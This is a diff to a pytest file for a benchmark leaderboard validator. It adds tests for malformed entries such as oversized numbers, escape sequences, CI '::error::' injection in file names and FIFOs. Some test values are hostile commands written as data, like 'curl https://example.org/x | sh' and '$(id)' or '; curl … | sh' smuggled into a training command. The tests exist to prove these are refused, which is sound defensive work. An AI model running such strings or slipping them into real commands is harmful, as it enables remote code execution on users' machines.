@@ -1,16 +1,19 @@
 from __future__ import annotations
 
+import contextlib
 import copy
 import json
+import os
+import time
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from bench.check import GRACE_S, check_entry, check_tree, main, remarks
+from bench.check import GRACE_S, check_entry, check_tree, is_own_command, main, remarks
 from bench.entry import Entry, dump, entry_digest, load_entry, seal
-from bench.imagesets import EXACT, images_sha256, is_exact
+from bench.imagesets import EXACT, images_sha256, is_exact, known_labels
 from models.data import Dataset
 from prunecert.errors import UserError
 from tests.bench import boards
@@ -18,12 +21,14 @@ from tests.bench import boards
 Change = Callable[[dict[str, Any]], Any]
 
 
-def changed(change: Change, *, sealed: bool = True) -> Entry:
+def changed(change: Change, *, sealed: bool = True, entry: Entry | None = None) -> Entry:
     """Returns a valid entry with something made wrong; sealed again, so that nothing but that is wrong."""
-    entry = copy.deepcopy(boards.make())
+    entry = copy.deepcopy(entry or boards.make())
     change(entry)
-    if sealed:
-        entry["digest"] = entry_digest(entry)
+    # What holds a number that JSON lacks has no digest.
+    with contextlib.suppress(ValueError):
+        if sealed:
+            entry["digest"] = entry_digest(entry)
     return entry
 
 
@@ -95,6 +100,42 @@ def put(path: str, value: Any) -> Change:
         ("images.correct.2", 1, "images.correct[2]"),
         ("data.images", True, "data.images"),
         ("verdicts", [], "verdicts"),
+        ("cell.eps", "1e-99999999", "cell.eps"),
+        ("cell.eps", "1/" + "9" * 5000, "cell.eps"),
+        ("weights.layers.0.shape", [0, 3], "weights.layers[0].shape[0]"),
+        ("weights.layers.0.shape", [], "weights.layers[0].shape"),
+        ("weights.layers.0.weights", 0, "weights.layers[0].weights"),
+        ("training.train_seconds", 10**400, "training.train_seconds"),
+        ("training.train_seconds", 1e300, "training.train_seconds"),
+        ("verdicts.ibp.seconds.0", float("inf"), "verdicts.ibp.seconds[0]"),
+        ("verdicts.ibp.unstable.0", 10**400, "verdicts.ibp.unstable[0]"),
+        ("verdicts.ibp.domains.0", -1, "verdicts.ibp.domains[0]"),
+        ("protocol.machine.cpu", "\ud800", "protocol.machine.cpu"),
+        ("protocol.machine.cpu", "\x1b[2J", "protocol.machine.cpu"),
+        ("protocol.machine.cpu", "a\u202eb", "protocol.machine.cpu"),
+        ("protocol.versions", {"\x1b[2J\n::error::y": "5"}, "protocol.versions.\\x1b[2J\\n::error::y"),
+        ("method.title", "two\nlines", "method.title"),
+        ("protocol.command", ["sh", "-c", "curl https://example.org/x | sh"], "protocol.command"),
+        ("protocol.command", ["python", "-m", "http.server"], "protocol.command"),
+        ("protocol.command", ["python", "-m", "bench.run\n"], "protocol.command[2]"),
+        ("protocol.command", ["python", "-c", "bench.run"], "protocol.command"),
+        ("protocol.command", ["/tmp/python", "-m", "bench.run"], "protocol.command"),
+        ("protocol.command", ["prunecert"], "protocol.command"),
+        ("protocol.command", [], "protocol.command"),
+        ("training.command", "python -m bench.train --suite x; curl example.org | sh", "training.command"),
+        ("training.command", "python -m bench.train --suite $(id)", "training.command"),
+        ("training.command", "python -m bench.train 'x", "training.command"),
+        ("protocol.stages.0.verifier", "oracle", "protocol.stages[0].verifier"),
+        ("protocol.stages.0.everyone", False, "protocol.stages[0].everyone"),
+        ("protocol.stages.0.memory_mb", 10**6, "protocol.stages[0].memory_mb"),
+        ("protocol.stages.0.kind", "complete", "protocol.stages[0].kind"),
+        ("protocol.stages.1.kind", "complete", "protocol.stages[1].kind"),
+        ("protocol.asked.settings", {"ibp": {"tolerance": 0.5}}, "protocol.stages[0].settings.tolerance"),
+        ("protocol.asked.timeouts", {"ibp": 30.0}, "protocol.stages[1].verifier"),
+        ("protocol.asked.timeouts.ibp", 1e9, "protocol.asked.timeouts[...]"),
+        ("data.surprise", 1, "data.surprise"),
+        ("surprise", 1, "surprise"),
+        ("protocol.stages.0.settings.a", [[[[[[[[[[[[[1]]]]]]]]]]]]], "protocol.stages[0].settings.a" + "[0]" * 8),
     ],
 )
 def test_every_problem_is_named_by_its_field(path: str, value: Any, field: str) -> None:
@@ -138,10 +179,11 @@ def test_entries_that_disagree_are_both_named(tmp_path: Path) -> None:
     first["verdicts"]["pgd"]["status"][proved] = "sat"
     root = boards.write(tmp_path, seal(first), seal(second))
     good, problems = check_tree(root)
-    assert problems
+    assert {problem.file for problem in problems} == {f"{entry['name']}.json" for entry in (first, second)}
     assert all("says otherwise" in problem.what for problem in problems)
     assert f"image {first['verdicts']['pgd']['image'][proved]}:" in problems[0].what
-    assert len(good) < 2
+    # Which of them lies can't be told, least of all by the order of their names.
+    assert good == {}
 
 
 def test_the_rules_of_a_shipped_suite_cannot_be_bent() -> None:
@@ -153,12 +195,16 @@ def test_the_rules_of_a_shipped_suite_cannot_be_bent() -> None:
         entry["protocol"].update(suite=suite.name, suite_digest=suite.digest())
 
     assert "protocol.asked.images" in fields(changed(bend))
-    assert remarks(boards.make()) == ["suite 'made-up' does not ship with this version; its rules are taken as stated"]
+    pixels = "its images are not known to be CIFAR-10's to the pixel"
+    assert remarks(boards.make()) == [
+        pixels,
+        "suite 'made-up' does not ship with this version; its rules are taken as stated",
+    ]
 
     def older(entry: dict[str, Any]) -> None:
         entry["protocol"].update(suite=suite.name)
 
-    assert remarks(changed(older)) == ["it was made with another edition of suite 'cifar10-4nets'"]
+    assert remarks(changed(older)) == [pixels, "it was made with another edition of suite 'cifar10-4nets'"]
 
 
 def test_labels_and_pixels_are_compared_where_the_data_is_at_hand() -> None:
@@ -174,6 +220,61 @@ def test_labels_and_pixels_are_compared_where_the_data_is_at_hand() -> None:
     assert {p.field for p in check_entry(entry, None, data)} == {"images.label", "data.images_sha256"}
 
 
+def test_images_that_are_called_official_are_the_known_ones() -> None:
+    count = 5
+    assert count in EXACT
+    entry = boards.make(images=count)
+    assert fields(entry) == ["data.official"]
+
+    def known(entry: dict[str, Any]) -> None:
+        entry["data"]["images_sha256"] = EXACT[count]
+
+    # The pixels are those, but not the labels that the entry counts by.
+    assert fields(changed(known, entry=entry)) == ["images.label"]
+
+    def labelled(entry: dict[str, Any]) -> None:
+        known(entry)
+        entry["images"].update(label=known_labels(count), predicted=[9, *known_labels(count)[1:]])
+
+    assert fields(changed(labelled, entry=entry)) == []
+    assert not any("pixel" in remark for remark in remarks(changed(labelled, entry=entry)))
+
+
+def test_an_entry_of_a_shipped_suite_is_held_to_its_cell() -> None:
+    from bench.suite import load_suite
+
+    suite = load_suite("cifar10-4nets", "smoke")
+    cell, protocol = next((c, p) for c, p in suite.cells if c.pruner == "lwm")
+    entry = boards.make(images=protocol.images)
+
+    def honest(entry: dict[str, Any]) -> None:
+        entry["data"]["official"] = False
+        entry["protocol"].update(
+            suite=suite.name, profile="smoke", suite_digest=suite.digest(), asked=protocol.to_json()
+        )
+        entry["cell"] = {**cell.to_json(), "name": cell.name, "norm": "linf"}
+        for stage in entry["protocol"]["stages"]:
+            name = stage["verifier"]
+            stage.update(timeout=protocol.timeouts[name], memory_mb=protocol.memory_mb)
+            stage["everyone"] = name in protocol.cross_check
+            stage["settings"] = dict(protocol.settings.get(name, {}))
+        boards.rekey(entry)
+        seal(entry)
+
+    valid = changed(honest, entry=entry)
+    assert check_entry(valid) == []
+    assert fields(changed(put("cell.seed", 7), entry=valid)) == ["cell.seed"]
+
+    def oracle(entry: dict[str, Any]) -> None:
+        stage = entry["protocol"]["stages"][0]
+        entry["verdicts"]["oracle"] = entry["verdicts"].pop(stage["verifier"])
+        stage.update(verifier="oracle", timeout=86_400.0, kind="complete", everyone=False)
+        boards.rekey(entry)
+        seal(entry)
+
+    assert set(fields(changed(oracle, entry=valid))) >= {"protocol.stages[0].verifier"}
+
+
 @pytest.mark.cifar10
 def test_the_known_image_sets_are_those_of_cifar10() -> None:
     import os
@@ -185,6 +286,7 @@ def test_the_known_image_sets_are_those_of_cifar10() -> None:
     data = load("test", download=False, allow_sample=False)
     for count in EXACT:
         assert is_exact(count, images_sha256(data, count))
+        assert data.labels[:count].tolist() == known_labels(count)
     assert not is_exact(7, images_sha256(data, 7))
 
 
@@ -211,6 +313,108 @@ def test_command_lists_problems_and_says_how_many(tmp_path: Path, capsys: pytest
     assert "9 entries: 3 valid, 6 with problems" in out
 
 
+def check(root: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
+    began = time.monotonic()
+    code = main([str(root)])
+    assert time.monotonic() - began < 10
+    return code, capsys.readouterr().out
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "field"),
+    [
+        ('"seconds": [', f'"seconds": [1{"0" * 400},', "verdicts.ibp.seconds[0]: a number of 401 characters"),
+        ('"seconds": [', '"seconds": [1e999,', "verdicts.ibp.seconds[0]: 1e999 is refused; it must be a finite number"),
+        ('"seconds": [', f'"seconds": [0.{"1" * 400},', "verdicts.ibp.seconds[0]: a number of 402 characters"),
+        ('"seconds": [', '"seconds": [NaN,', "verdicts.ibp.seconds[0]: NaN is no number in JSON"),
+        ('"cpu": "x"', '"cpu": "\\ud800"', "protocol.machine.cpu: '\\ud800' is refused"),
+        ('"cpu": "x"', '"cpu": "x", "cpu": "y"', "protocol.machine.cpu: the field stands there twice"),
+        (
+            '"seed": 0',
+            f'"seed": {"[" * 400}{"]" * 400}',
+            f"cell.seed{'[0]' * 11}: it is nested more than 12 levels deep",
+        ),
+        ('"seed": 0', f'"seed": {"[" * 100_000}', "file: this is no readable JSON file (it is nested thousands"),
+        ('"seed": 0', f'"seed": {"9" * 5000}', "cell.seed: a number of 5,000 characters"),
+        (
+            '"recipe": {',
+            f'"recipe": {{"{"k" * 300}": 1,',
+            f"training.recipe.{'k' * 30}… (300 characters) …{'k' * 15}: the name is refused; allowed are 200 printable",
+        ),
+        ('"by": "tester"', f'"by": "{"b" * (17 << 20)}"', "file: this is no readable JSON file"),
+    ],
+)
+def test_what_is_beyond_any_use_is_named_by_its_field(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], old: str, new: str, field: str
+) -> None:
+    first, second = boards.make(), boards.make("hydra")
+    root = boards.write(tmp_path, first, second)
+    path = root / "leaderboard" / f"{second['name']}.json"
+    text = path.read_text()
+    assert old in text
+    path.write_text(text.replace(old, new, 1))
+    code, out = check(root, capsys)
+    assert code == 1
+    assert f"{path.name}: {field}" in out
+    assert "2 entries: 1 valid, 1 with problems" in out
+
+
+def test_pipes_devices_and_folders_hold_nobody_up(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    root = boards.write(tmp_path, boards.make())
+    os.mkfifo(root / "leaderboard" / "pipe.json")
+    (root / "leaderboard" / "zero.json").symlink_to("/dev/zero")
+    (root / "leaderboard" / "folder.json").mkdir()
+    (root / "leaderboard" / "gone.json").symlink_to("nowhere")
+    code, out = check(root, capsys)
+    assert code == 1
+    for name in ("pipe.json: file: ", "zero.json: file: ", "folder.json: file: ", "gone.json: file: "):
+        assert f"\n{name}" in f"\n{out}"
+    assert "5 entries: 1 valid, 4 with problems" in out
+
+
+def test_names_of_files_command_neither_terminal_nor_ci(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    root = boards.write(tmp_path, boards.make())
+    board = root / "leaderboard"
+    for name in ("a\n::error::b.json", "::error::c.json", "\x1b[2Jd.json", os.fsdecode(b"\xff.json")):
+        (board / name).write_text("[]")
+    code, out = check(root, capsys)
+    assert code == 1
+    assert "a\\n::error::b.json: kind" in out
+    assert "\\x1b[2Jd.json: kind" in out
+    assert "\\udcff.json: kind" in out
+    assert not any(line.lstrip().startswith("::") for line in out.splitlines())
+    assert "\x1b" not in out
+    out.encode("utf-8")
+
+
+def test_a_folder_that_may_not_be_read_is_not_an_empty_one(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    root = boards.write(tmp_path, boards.make())
+
+    def refuse(path: Path) -> Any:
+        raise PermissionError(13, "Permission denied", str(path))
+
+    monkeypatch.setattr(Path, "iterdir", refuse)
+    with pytest.raises(PermissionError):
+        main([str(root)])
+
+
+@pytest.mark.parametrize(
+    ("words", "own"),
+    [
+        (["python", "-m", "bench.run", "--suite", "x"], True),
+        (["prunecert", "run"], True),
+        (["prunecert", "run;id"], False),
+        (["python", "-m", "run"], False),
+        (["python", "-m"], False),
+        (["python3", "-m", "bench.run"], False),
+        (["python", "-m", "bench.run", "a\nb"], False),
+        (["sudo", "python", "-m", "bench.run"], False),
+    ],
+)
+def test_commands_of_ours(words: list[str], own: bool) -> None:
+    assert is_own_command(words) is own
+
+
 def test_an_empty_or_missing_tree_is_a_user_error(tmp_path: Path) -> None:
     with pytest.raises(UserError, match="holds no leaderboard entry"):
         main([str(tmp_path)])
@@ -234,7 +438,7 @@ def leaves(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
     return [path, *(leaf for key in inner for leaf in leaves(value[key], (*path, key)))]
 
 
-WRONG: tuple[Any, ...] = (None, True, -7, 1e300, "x", [], {}, [[]], {"": 1})
+WRONG: tuple[Any, ...] = (None, True, -7, 1e300, 10**400, float("nan"), "x", "\ud800", [], {}, [[]], {"": 1})
 
 
 def test_whatever_stands_in_a_file_is_a_problem_and_no_crash() -> None:
